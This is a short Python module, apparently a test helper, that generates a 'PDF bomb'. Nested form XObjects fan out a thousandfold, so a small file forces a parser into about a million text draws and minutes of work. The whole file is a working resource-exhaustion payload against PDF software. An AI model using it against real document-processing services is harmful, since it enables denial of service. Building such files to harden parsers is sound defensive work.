"""A hostile PDF: nested form XObjects that multiply into millions of text objects, so a
parser spends minutes on a 15 KB file."""

from __future__ import annotations

from pathlib import Path


def make_pdf_bomb(path: Path, fan: int = 1000) -> Path:
    inner = b"BT /F1 12 Tf 72 720 Td (slow) Tj ET"
    form = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >>"
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /X2 7 0 R >> >> >>",
        _stream(b"", b"/X2 Do " * fan),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        _stream(form, inner),
        _stream(form, b"/X1 Do " * fan),
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    path.write_bytes(bytes(out))
    return path


def _stream(extra: bytes, data: bytes) -> bytes:
    return b"<< " + extra + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
